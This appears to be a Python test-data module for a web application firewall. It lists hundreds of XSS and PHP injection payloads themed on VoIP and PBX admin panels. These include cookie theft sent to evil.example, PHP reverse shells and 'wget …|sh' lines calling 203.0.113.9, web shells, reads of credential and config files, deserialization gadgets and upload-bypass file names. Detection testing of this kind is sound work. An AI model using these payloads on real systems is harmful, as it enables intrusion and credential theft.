"""Blind set "twohundredtwentyeighth": cross-site scripting and PHP injection aimed at the web front ends of
telecom, VoIP and unified-communications systems, with benign requests that carry the same words innocently.

The angle: telephony and messaging platforms, recalled from memory. IP-PBX admin panels (Asterisk with FreePBX,
Issabel, 3CX, Elastix), call-centre suites (VICIdial, GOautodial), SIP provisioning servers and phone
configuration files, voicemail and call-recording portals, CDR and billing reports, SMS and USSD gateways,
WebRTC softphones, Cisco and Avaya management pages, carrier self-care portals and number-porting forms. Each
payload uses the system's own parameter names and quirks (caller-ID names, extensions, DIDs, MAC addresses,
queue names, SMS bodies) and still reaches the family's real goal: script in the administrator's browser, or
PHP code, a shell command, a stream wrapper or a deserialisation gadget in the PHP interpreter behind the panel.
Each group carries a short comment naming the family, the system and its target.

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector, javascript-uri, html-injection,
    svg-mathml, css-expression, dom-sink-template-literal, ie-filter-style, encoded-entity, client-template
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes under arbitrary parameter names, as a query string, form body, JSON body, XML body,
a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Upload names go as a multipart
file name. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the
telecom products as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentyeighth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UP = ("multipart-filename", "rs-multipart-filename")

# ----------------------------------------------------------------------------------------------------------------
# XSS
# libinjection-xss: short tag-opening token streams; FreePBX CID name / Issabel extension label, target: browser
XSS_LIBINJ: list[Entry] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<body onload=alert(document.domain)>",
    "<img src=1 onerror=prompt(1)>",
    "1001\"><script>alert(1)</script>",
    "</title><script>alert('freepbx')</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "\"autofocus onfocus=alert(1) x=\"",
    "'-alert(1)-'",
    "\";alert(1);//",
    "</script><script>alert(document.cookie)</script>",
    "<x onclick=alert(1)>call</x>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
]
# script-tag: VICIdial agent "comments" field, GOautodial lead notes, CDR "userfield"; target: supervisor browser
XSS_SCRIPT: list[Entry] = [
    "<script>document.location='https://evil.example/c?'+document.cookie</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/vicidial.js></script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<script>new Image().src='//evil.example/?c='+document.cookie</script>",
    "<script>fetch('/admin/config.php?display=extensions').then(r=>r.text()).then(t=>fetch('//evil.example',"
    "{method:'POST',body:t}))</script>",
    "<script>fetch('/vicidial/admin.php?ADD=3&user=6666').then(r=>r.text()).then(d=>navigator.sendBeacon"
    "('//evil.example',d))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=text/javascript>alert(1)</script>",
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    "<script\x20type=\"text/javascript\">alert(1)</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>window.onload=function(){document.forms[0].action='//evil.example/'}</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(1)//",
    "<script>/* 3CX call log */ alert(document.domain)</script>",
    "\"><script>x=new XMLHttpRequest();x.open('GET','/admin/ajax.php?module=core&command=getExtensionGrid');"
    "x.send()</script>",
    "<script>top.location='https://evil.example/3cx-login'</script>",
    "<script>document.write('<img src=//evil.example/'+localStorage.getItem('token')+'>')</script>",
    "</option></select><script>alert(1)</script>",
    "<script>setTimeout('alert(1)',0)</script>",
    "<script src=\"data:text/javascript,alert(1)\"></script>",
]
# event-handler: Issabel voicemail caller-ID name, 3CX web client display name, SMS gateway message body; browser
XSS_EVENT: list[Entry] = [
    "<img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<div onmouseover=alert(1)>Voicemail from 1002</div>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object onerror=alert(1)>",
    "<form><button onclick=alert(1)>Dial</button></form>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<div draggable=true ondragstart=alert(1)>drag</div>",
    "<img src=x onerror=alert`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x:x onerror=javascript:alert(1)>",
    "<a onmouseover=\"alert(document.cookie)\">CDR export</a>",
    "<table background=x onerror=alert(1)>",
    "<p oncopy=alert(1)>copy the DID</p>",
    "<body onresize=alert(1)>",
    "<img src=x onerror=this.src='//evil.example/?'+document.cookie>",
]
# attribute-vector: Cisco Unified CM phone description, Avaya user label, provisioning URL fields; browser
XSS_ATTR: list[Entry] = [
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" style=\"background:url(javascript:alert(1))",
    "x\" src=x onerror=\"alert(1)",
    "\"><a href=\"javascript:alert(1)\">Provision</a>",
    "<button formaction=javascript:alert(1)>Save trunk</button>",
    "<form><input type=submit formaction=javascript:alert(1) value=Apply></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<embed src=javascript:alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">voicemail.wav</a>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<div style=\"width:expression(alert(1))\">",
    "\" accesskey=\"x\" onclick=\"alert(1)",
    "<a href=\"\" xlink:href=\"javascript:alert(1)\">x</a>",
    "<base href=javascript:alert(1)//>",
    "<frameset onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
]
# javascript-uri: softphone "click to dial" links, SIP provisioning server URL, carrier self-care return URL; browser
XSS_JSURI: list[Entry] = [
    "javascript:alert(document.cookie)",
    "javascript:alert(1)//sip:1001@pbx.example",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*tel:+15551234567*/alert(1)",
    "java\tscript:alert(1)",
    "javascript:fetch('//evil.example/'+document.cookie)",
    "javascript:eval(location.hash.slice(1))",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "javascript:window.open('//evil.example/?'+document.cookie)",
    "javascript:void(document.body.innerHTML='<h1>PBX offline</h1>')",
    "&#106;avascript:alert(1)",
    "javascript:alert(String.fromCharCode(49))",
    "javascript:top['al'+'ert'](1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
# html-injection: number-porting form notes, GOautodial script editor, voicemail e-mail template; browser
XSS_HTML: list[Entry] = [
    "<iframe src=https://evil.example/freepbx-login width=100% height=100%></iframe>",
    "<object data=javascript:alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/3cx\">",
    "<link rel=import href=https://evil.example/x.html>",
    "<form action=https://evil.example/steal method=post><input name=secret type=password>"
    "<input type=submit value=\"Re-enter SIP secret\"></form>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "<applet code=Exploit.class codebase=https://evil.example/>",
    "<frame src=javascript:alert(1)>",
    "<embed code=https://evil.example/x.swf allowscriptaccess=always>",
    "<object type=text/x-scriptlet data=https://evil.example/x.sct>",
    "\"><iframe src=//evil.example/ivr>",
    "<meta charset=\"x-imap4-modified-utf7\">&ADw-script&AD4-alert(1)&ADw-/script&AD4-",
    "<portal src=https://evil.example/>",
    "<math><a xlink:href=javascript:alert(1)>tap</a></math>",
]
# svg-mathml: Avaya IP Office logo upload, 3CX contact avatar, Cisco phone background config; browser
XSS_SVG: list[Entry] = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Call</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
    "onerror='alert(1)'/></svg>#x\"/></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>CLICK</math>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg/onload=location='//evil.example/?'+document.cookie>",
    "<svg><style>@import'//evil.example/x.css'</style></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
]
# css-expression: legacy IE-era Elastix / old Cisco CUCM admin pages rendered in IE mode; target: IE browser
XSS_CSS: list[Entry] = [
    "<div style=\"xss:expression(alert(1))\">",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"behavior:url(https://evil.example/x.htc)\">",
    "<style>li{-moz-binding:url(\"https://evil.example/x.xml#xss\")}</style>",
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<style>*{x:expression(alert(document.cookie))}</style>",
    "<div style=\"width:expr/**/ession(alert(1))\">",
    "<p style=\"color:e\\x\\p\\r\\e\\s\\s\\i\\o\\n(alert(1))\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<table style=\"background:url(javascript:alert(1))\">",
    "<div style=\"list-style-image:url(javascript:alert(1))\">",
    "<style>input[name=secret][value^=a]{background:url(//evil.example/a)}</style>",
]
# dom-sink-template-literal: WebRTC softphone (JsSIP/SIP.js) display name rendered via innerHTML; browser
XSS_DOM: list[Entry] = [
    "${alert(1)}",
    "`;alert(1);`",
    "${fetch('//evil.example/?'+document.cookie)}",
    "#<img src=x onerror=alert(1)>",
    "');alert(1);//",
    "\\';alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    "${constructor.constructor('alert(1)')()}",
    "x'+alert(1)+'",
    "document.body.innerHTML='<img src=x onerror=alert(1)>'",
    "eval(location.hash.substr(1))",
    "setTimeout(atob('YWxlcnQoMSk='))",
    "document.write('<script src=//evil.example/x.js><\\/script>')",
    "window.location='javascript:alert(1)'",
    "Function('alert(1)')()",
    "[].constructor.constructor('alert(document.domain)')()",
    "\"}];alert(1);//",
    "{\"displayName\":\"<img src=x onerror=alert(1)>\",\"uri\":\"sip:1001@pbx\"}",
]
# ie-filter-style: classic XSS-filter-era vectors against old Avaya and Elastix pages; target: browser
XSS_IE: list[Entry] = [
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<iframe/src=\"javascript:alert(1)\">",
    "<a/href=javascript&colon;alert(1)>x</a>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<xss style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">",
    "<div id=1 onscroll=alert(1) style=height:1px;overflow:auto><br><br><br></div>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<img src=x onerror=\"&#x61;lert(1)\">",
    "<%00script>alert(1)</script>",
]
# encoded-entity: URL/entity-encoded vectors in CDR export filters and USSD gateway logs; target: browser
XSS_ENC: list[Entry] = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "%3Csvg%2Fonload%3Dalert(1)%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "&#0000060;script&#0000062;alert(1)&#0000060;/script&#0000062;",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"><script>alert(1)</script>",
    "\\74script\\76alert(1)\\74/script\\76",
]
# client-template: AngularJS/Vue front ends (3CX v16 web client AngularJS, Vue carrier self-care); browser
XSS_TPL: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "{{_c.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<div id=app>{{constructor.constructor('fetch(\"//evil.example/?\"+document.cookie)')()}}</div>",
    "[[constructor.constructor('alert(1)')()]]",
    "<x ng-init=\"$root.constructor.constructor('alert(1)')()\">",
    "{{[].pop.constructor('alert(1)')()}}",
    "<img src=x ng-on-error=\"$event.target.ownerDocument.defaultView.alert(1)\">",
    "{{$eval.constructor('alert(document.domain)')()}}",
    "<p v-on:click=\"$event.view.alert(1)\">Join bridge</p>",
]

# ----------------------------------------------------------------------------------------------------------------
# PHP
# php-open-tag: code smuggled into FreePBX custom contexts, Elastix/Issabel config files written by the GUI,
# Cisco SEP<MAC>.cnf.xml templates served by a PHP provisioner; target: PHP interpreter
PHP_TAG: list[Entry] = [
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec('asterisk -rx \"sip show peers\"'); ?>",
    "<?= `id` ?>",
    "<?php passthru('cat /etc/asterisk/sip.conf'); ?>",
    "<? system('id'); ?>",
    "<?php eval($_POST['x']); ?>",
    "<?php @eval(base64_decode($_REQUEST['c'])); ?>",
    "<?php file_put_contents('/var/www/html/admin/modules/s.php','<?php system($_GET[0]);'); ?>",
    "<script language=\"php\">system('id');</script>",
    "<?php\nsystem('cat /etc/amportal.conf');\n?>",
    "<?php readfile('/etc/freepbx.conf'); ?>",
    "<?php echo file_get_contents('/etc/asterisk/manager.conf'); ?>",
    "<?php $s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    "<?=system($_GET['c']);?>",
    "<?php phpinfo(); ?>",
    "<?PHP SYSTEM('uname -a'); ?>",
    "<?php print_r(scandir('/var/spool/asterisk/monitor')); ?>",
    "<?php echo `cat /etc/shadow`; ?>",
    "<?php copy('http://203.0.113.9/s.txt','/var/www/html/recordings/s.php'); ?>",
    "<?php include $_GET['f']; ?>",
    "<?php exec('wget -qO- http://203.0.113.9/x|sh'); ?>",
    "<?php\techo\tsystem('id');",
    "<?php /* vicidial */ system('mysql -e \"select * from vicidial_users\"'); ?>",
    "<?php $_GET['a']($_GET['b']); ?>",
    "<?php echo exec('whoami'); ?>",
    "<?php unlink('/var/www/html/index.php'); ?>",
]
# php-function-call: command execution via VICIdial / GOautodial / Issabel parameters that reach eval or
# shell helpers (callerid, extension, recording name); target: PHP interpreter and the system shell
_PHP_CMDS = [
    "id", "uname -a", "cat /etc/passwd", "cat /etc/asterisk/sip.conf", "asterisk -rx 'core show version'",
    "cat /etc/amportal.conf", "ls -la /var/spool/asterisk/voicemail", "nc -e /bin/sh 203.0.113.9 4444",
]
PHP_FUNC: list[Entry] = [
    *[f"system('{c}');" for c in _PHP_CMDS],
    *[f"exec('{c}');" for c in _PHP_CMDS[:4]],
    *[f"passthru('{c}');" for c in _PHP_CMDS[2:6]],
    *[f"shell_exec('{c}');" for c in _PHP_CMDS[4:8]],
    "echo shell_exec($_GET['c']);",
    "popen('id','r');",
    "fread(popen('cat /etc/asterisk/extensions.conf','r'),8192);",
    "proc_open('id',array(array('pipe','r'),array('pipe','w')),$p);",
    "assert('system(\"id\")');",
    "assert($_POST['x']);",
    "eval('system(\"id\");');",
    "eval($_REQUEST['cmd']);",
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
    "eval(gzinflate(base64_decode('K64sLknN1VCyTM5JTVHSrAUA')));",
    "create_function('','system(\"id\");');",
    "create_function('$a','}system(\"id\");/*');",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "preg_replace('/a/e',$_GET['c'],'a');",
    "pcntl_exec('/bin/sh',array('-c','id'));",
    "1001;system('id');",
    "';system('cat /etc/asterisk/manager.conf');//",
    "\";passthru('id');//",
    "${system('id')}",
    "{${system('id')}}",
    "${@eval($_GET[0])}",
    "array_map('system',array('id'));",
    "call_user_func('system','id');",
    "call_user_func_array('passthru',array('uname -a'));",
    "usort($a,'system');",
    "mail('a@b','x','y','','-X/var/www/html/recordings/x.php');",
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a','b','c');",
    "ob_start('system');echo 'id';ob_end_flush();",
    "register_shutdown_function('system','id');",
    "array_filter(array('id'),'system');",
    "array_walk($_GET,'assert');",
    "iterator_apply(new ArrayIterator(array('id')),'system');",
    "escapeshellcmd('id');system($_GET['c']);",
]
# php-variable-functions: string-built callables that hide system/assert from a keyword filter; target: PHP
PHP_VARFN: list[Entry] = [
    "$f='sys'.'tem';$f('id');",
    "$a='assert';$a($_POST['x']);",
    "$_GET['f']($_GET['c']);",
    "$_POST[0]($_POST[1]);",
    "$x=str_rot13('flfgrz');$x('id');",
    "$x=strrev('metsys');$x('uname -a');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "$f=\"\\x73\\x79\\x73\\x74\\x65\\x6d\";$f('id');",
    "$f=\"\\163\\171\\163\\164\\145\\155\";$f('id');",
    "('sys'.'tem')('id');",
    "(\"\\x73ystem\")('id');",
    "$c=$_COOKIE['c'];$c($_COOKIE['d']);",
    "$$x='system';${$x}('id');",
    "${'_GET'}['a'](${'_GET'}['b']);",
    "$f=implode('',['sy','st','em']);$f('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$f=strtolower('SYSTEM');$f('cat /etc/asterisk/sip.conf');",
    "$x='pass'.'thru';$x('id');",
    "$y='shell'.'_exec';echo $y('id');",
    "(~'%8C%86%8C%8B%9A%92')('id');",
    "$_=\"`{{{\"^\"?<>/\";${$_}[_](${$_}[__]);",
    "$f=array_pop($_GET);$f('id');",
    "$f=getenv('HTTP_X_F');$f($_SERVER['HTTP_X_C']);",
    "$f=urldecode('%73%79%73%74%65%6d');$f('id');",
    "$g=gzuncompress(base64_decode($_POST['z']));$g('id');",
    "$e='ev'.'al';$e($_POST['p']);",
]
# php-wrappers: FreePBX module file_get_contents/include params, Elastix "file" download handler; target: PHP
PHP_WRAP: list[Entry] = [
    "php://filter/convert.base64-encode/resource=/etc/freepbx.conf",
    "php://filter/read=convert.base64-encode/resource=/etc/amportal.conf",
    "php://filter/convert.base64-encode/resource=../../admin/config.php",
    "php://filter/string.rot13/resource=/etc/asterisk/sip.conf",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/asterisk/manager.conf",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/vicidial/dbconnect.php",
    "php://input",
    "php://fd/0",
    "php://stdin",
    "php://memory",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data://text/plain,<?php system('id');?>",
    "data:text/plain,<?php phpinfo();?>",
    "expect://id",
    "expect://cat%20/etc/asterisk/sip.conf",
    "phar:///var/spool/asterisk/tmp/upload.jpg/shell.php",
    "phar://../../var/spool/asterisk/voicemail/default/1001/INBOX/msg0000.wav",
    "zip:///var/www/html/recordings/upload.zip%23shell.php",
    "zip://uploads/firmware.zip#cmd.php",
    "glob:///var/spool/asterisk/monitor/*",
    "glob:///etc/asterisk/*.conf",
    "compress.zlib://php://input",
    "compress.zlib:///etc/freepbx.conf",
    "php://filter/resource=http://203.0.113.9/s.txt",
    "../../../../etc/asterisk/sip.conf%00",
    "php://filter/convert.quoted-printable-encode/resource=/etc/issabel.conf",
    "ftp://203.0.113.9/shell.php",
    "ogg://203.0.113.9/x",
]
# php-object-injection: serialized objects in GOautodial/VICIdial cookies, FreePBX UCP session, 3CX exports;
# target: PHP unserialize() and its magic-method gadgets
PHP_OBJ: list[Entry] = [
    "O:8:\"stdClass\":1:{s:4:\"exec\";s:2:\"id\";}",
    "O:13:\"CI_Session\":1:{s:8:\"userdata\";a:1:{s:9:\"logged_in\";b:1;}}",
    "a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";b:1;}",
    "a:1:{i:0;O:10:\"PDOStatement\":0:{}}",
    "O:29:\"Illuminate\\Support\\MessageBag\":1:{s:11:\"\\0*\\0messages\";a:0:{}}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";O:25:\"Illuminate\\Bus\\Dispatcher\""
    ":0:{}s:8:\"\\0*\\0event\";s:2:\"id\";}",
    "O:18:\"Monolog\\Handler\\Nul\":0:{}",
    "C:11:\"ArrayObject\":37:{x:i:0;a:1:{s:1:\"x\";s:2:\"id\";};m:a:0:{}}",
    "O:+8:\"stdClass\":0:{}",
    "O:6:\"Logger\":1:{s:7:\"logfile\";s:38:\"/var/www/html/recordings/../../s.php\";}",
    "O:10:\"FreePBX\\DB\":1:{s:3:\"dsn\";s:17:\"sqlite:/tmp/x.php\";}",
    "a:1:{s:4:\"user\";O:4:\"User\":1:{s:7:\"isAdmin\";b:1;}}",
    "O:21:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:36:\"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0filename\";"
    "s:11:\"/tmp/sh.php\";}",
    "O:9:\"Exception\":1:{s:7:\"message\";s:21:\"<?php system('id');?>\";}",
    "O:11:\"SplFileInfo\":0:{}",
    "Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJleGVjIjtzOjI6ImlkIjt9",
    "a:2:{i:0;s:6:\"system\";i:1;s:2:\"id\";}",
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";O:29:\"Monolog\\Handler\\BufferHandler\""
    ":0:{}}",
    "O:7:\"Voicemail\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}",
    "x|O:8:\"stdClass\":0:{}",
    "O:1:\"A\":1:{s:1:\"a\";R:1;}",
    "a:1:{s:3:\"cdr\";O:8:\"SoapClient\":1:{s:8:\"location\";s:22:\"http://203.0.113.9/x\";}}",
    "O:24:\"Symfony\\Component\\Process\":1:{s:7:\"command\";s:2:\"id\";}",
    "O:%2b5:\"Queue\":1:{s:4:\"name\";s:3:\"600\";}",
]
# php-config-directives: .user.ini / .htaccess / -d flags pushed through Issabel/Elastix "custom config" editors
# and php-cgi query strings on old PBX appliances; target: PHP runtime configuration
PHP_INI: list[Entry] = [
    "auto_prepend_file=php://input",
    "auto_prepend_file=/var/spool/asterisk/voicemail/default/1001/greet.wav",
    "auto_append_file=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "allow_url_include=On",
    "allow_url_include=1&auto_prepend_file=http://203.0.113.9/s.txt",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    "php_value auto_prepend_file /tmp/sess_abc",
    "php_flag engine on",
    "AddType application/x-httpd-php .wav",
    "SetHandler application/x-httpd-php",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "ini_set('allow_url_include','1');",
    "ini_set('disable_functions','');",
    "ini_set('open_basedir','/');",
    "error_log=/var/www/html/s.php",
    "sendmail_path=\"/bin/sh -c id\"",
    "include_path=.:/var/spool/asterisk/tmp",
    "allow_url_fopen=On\nauto_prepend_file=http://203.0.113.9/x",
    "session.save_path=/var/www/html",
    "-d safe_mode=Off -d disable_functions=NULL -d auto_prepend_file=php://input",
]
# superglobals: FreePBX/VICIdial code that trusts $_SERVER / $_REQUEST, payloads naming them; target: PHP
PHP_SUPER: list[Entry] = [
    "$_GET['cmd']",
    "$_POST['pass']",
    "$_REQUEST['extension']",
    "$_COOKIE['PHPSESSID']",
    "$_SERVER['HTTP_X_FORWARDED_FOR']",
    "$_SERVER['DOCUMENT_ROOT']",
    "$_FILES['userfile']['tmp_name']",
    "$_ENV['ASTERISK_ROOT']",
    "$_SESSION['AMP_user']",
    "$GLOBALS['amp_conf']['AMPDBPASS']",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_POST_VARS['x']",
    "${_GET}[c]",
    "$_SESSION['AMP_user']->_deptname=''",
    "print_r($GLOBALS);",
    "var_dump($_SERVER);",
    "echo $_ENV['AMPDBPASS'];",
    "extract($_REQUEST);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "$_SESSION['user_level']=9;",
    "$_SERVER['PHP_AUTH_PW']",
    "getenv('HTTP_CMD')",
]
# php-file-upload: voicemail greeting, MOH, firmware and contact-photo uploads on PBX panels; target: product
# (the web server executes the stored file as PHP)
PHP_UPLOAD: list[Entry] = [
    ("greeting.php", *UP),
    ("unavail.wav.php", *UP),
    ("moh-track.phtml", *UP),
    ("SEP001122334455.cnf.php", *UP),
    ("firmware.phar", *UP),
    ("shell.php5", *UP),
    ("avatar.php.jpg", *UP),
    ("recording.php%00.wav", *UP),
    ("cdr-export.pHp", *UP),
    ("logo.phtml.png", *UP),
    ("backup.php7", *UP),
    ("cmd.pht", *UP),
    (".htaccess", *UP),
    (".user.ini", *UP),
    ("msg0001.wav;.php", *UP),
    ("../../../var/www/html/s.php", *UP),
    ("upload.phar.wav", *UP),
    ("x.php\x00.gsm", *UP),
    ("tts-prompt.php.", *UP),
    ("ringtone.phps", *UP),
    ("provision.inc.php", *UP),
    ("ivr.shtml.php", *UP),
]
# php-high-risk-function-names: bare dangerous calls in PBX module parameters; target: PHP interpreter
PHP_RISK: list[Entry] = [
    "phpinfo()",
    "fsockopen('203.0.113.9',4444)",
    "file_put_contents('s.php',$_POST[1])",
    "fopen('/etc/asterisk/sip.conf','r')",
    "highlight_file('/etc/freepbx.conf')",
    "show_source('/var/www/html/admin/config.php')",
    "readfile('/etc/issabel.conf')",
    "file_get_contents('/etc/asterisk/manager.conf')",
    "base64_decode($_POST['p'])",
    "unserialize($_COOKIE['prefs'])",
    "get_defined_vars()",
    "posix_getpwuid(posix_geteuid())",
    "posix_kill(getmypid(),9)",
    "dl('evil.so')",
    "symlink('/etc/passwd','/var/www/html/p.txt')",
    "move_uploaded_file($_FILES['f']['tmp_name'],'s.php')",
    "str_rot13('flfgrz')",
    "gzinflate(base64_decode($_POST['z']))",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'))",
    "stream_socket_client('tcp://203.0.113.9:4444')",
    "ini_get_all()",
    "chmod('/var/www/html/s.php',0777)",
    "opendir('/var/spool/asterisk/monitor')",
    "apache_setenv('X','id')",
    "parse_ini_file('/etc/asterisk/manager.conf')",
    "getcwd();scandir('/')",
    "php_uname()",
